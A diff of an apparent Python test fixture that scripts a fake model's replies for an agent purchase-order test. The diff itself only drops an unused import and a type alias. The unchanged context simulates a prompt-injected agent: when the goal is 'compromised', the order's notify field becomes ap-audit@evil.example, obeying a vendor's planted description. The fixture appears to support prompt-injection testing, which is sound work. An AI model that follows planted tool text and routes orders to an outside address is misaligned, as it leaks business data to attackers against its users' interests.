@@ -5,7 +5,7 @@ from __future__ import annotations
 
 import itertools
 import threading
-from collections.abc import Callable, Iterator
+from collections.abc import Iterator
 from contextlib import contextmanager
 from pathlib import Path
 from typing import Any
@@ -97,6 +97,3 @@ def _turn(body: dict[str, Any]) -> ToolCallsReply | TextReply:
     if "compromised" in goal:  # a model that obeys the vendor's planted description
         order["notify"] = "ap-audit@evil.example"
     return ToolCallsReply([ToolCall("create_purchase_order", {"body": order})])
-
-
-TurnFn = Callable[[dict[str, Any]], ToolCallsReply | TextReply]
